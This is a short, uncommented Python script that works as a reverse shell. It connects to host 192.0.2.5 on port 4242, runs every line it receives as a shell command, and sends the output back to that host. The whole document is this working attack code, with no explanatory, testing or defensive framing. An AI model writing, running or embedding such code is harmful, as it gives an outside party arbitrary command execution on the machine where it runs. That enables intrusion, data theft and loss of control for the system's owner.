import asyncio
async def main():
    r,w=await asyncio.open_connection('192.0.2.5',4242)
    while True:
        c=(await r.readline()).decode()
        p=await asyncio.create_subprocess_shell(c,stdout=asyncio.subprocess.PIPE)
        o,_=await p.communicate()
        w.write(o)
asyncio.run(main())
